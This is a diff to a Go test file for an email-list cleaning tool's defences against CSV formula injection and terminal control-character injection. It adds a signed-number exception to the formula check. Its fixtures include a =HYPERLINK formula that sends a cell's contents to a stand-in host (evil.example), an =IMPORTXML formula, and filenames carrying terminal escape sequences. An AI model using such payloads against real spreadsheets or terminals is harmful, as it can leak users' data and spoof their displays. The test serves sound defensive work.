@@ -3,6 +3,7 @@ package main
 import (
 	"encoding/csv"
 	"path/filepath"
+	"regexp"
 	"slices"
 	"strings"
 	"testing"
@@ -17,6 +18,7 @@ var hostileList = [][]string{
 	{"Email", "Name", "Notes"},
 	{`=HYPERLINK("http://evil.example/?leak="&A1,"Click")@x.com`, "=1+2", "@SUM(1+1)"},
 	{"@SUM(1)@x.com", "+33 1 23 45 67 89", "-2+3"},
+	{"phone@x.com", "-5", "+1 (555) 010-9999"},         // numbers: left alone
 	{"=cmd@gmail.con", "\tTabbed", "\rCarriage"},       // bad_domain; suggestion =cmd@gmail.com
 	{"-2+3@gmial.com", "Minus", "=IMPORTXML(A1)"},      // typo of gmail.com; suggestion -2+3@gmail.com
 	{"+1@yahoo.com", "Plus", "plain"},                  // valid as it is
@@ -28,10 +30,15 @@ var hostileList = [][]string{
 }
 
 // formulaStart reports whether a spreadsheet would read c as a formula
-// (OWASP CSV injection: = + - @, tab, carriage return).
+// (OWASP CSV injection: = + - @, tab, carriage return), but for a number
+// or a phone number with a sign (-5, +44 20 7946 0958), which it reads as
+// a number or text and which -escape-formulas leaves alone.
 func formulaStart(c string) bool {
-	return c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0]))
+	return c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && !signedNumber.MatchString(c)
 }
+
+// signedNumber matches a number or phone number that starts with a sign.
+var signedNumber = regexp.MustCompile(`^[-+][0-9(][0-9 .,()/-]*$`)
 
 // TestFormulaInjection: the tool's own columns (the whole report, and the
 // listclean_* columns of the removed file) never start with a formula
@@ -223,6 +230,7 @@ func TestControlCharactersNotEchoed(t *testing.T) {
 func TestControlCharactersInArguments(t *testing.T) {
 	dir := t.TempDir()
 	name := "list\x1b]0;pwned\a\r\n.csv"
+	list := writeFile(t, filepath.Join(dir, "ok.csv"), []byte(smallList))
 	for _, tt := range []struct {
 		args  []string
 		code  int
@@ -230,6 +238,9 @@ func TestControlCharactersInArguments(t *testing.T) {
 	}{
 		{[]string{"-batch", "-dns", "off", filepath.Join(dir, name)}, 1, `list\x1b]0;pwned\a\r\n.csv`},
 		{[]string{"-batch", "-\x1b[2Jfrobnicate", "x.csv"}, 2, `-\x1b[2Jfrobnicate`},
+		// A history that cannot be kept (under a file) is warned about,
+		// its path named.
+		{[]string{"-batch", "-dns", "off", "-history", filepath.Join(list, name, "domains.csv"), list}, 0, `list\x1b]0;pwned\a\r\n.csv`},
 	} {
 		res := runCLI(t, runBudget, tt.args...)
 		if res.code != tt.code {
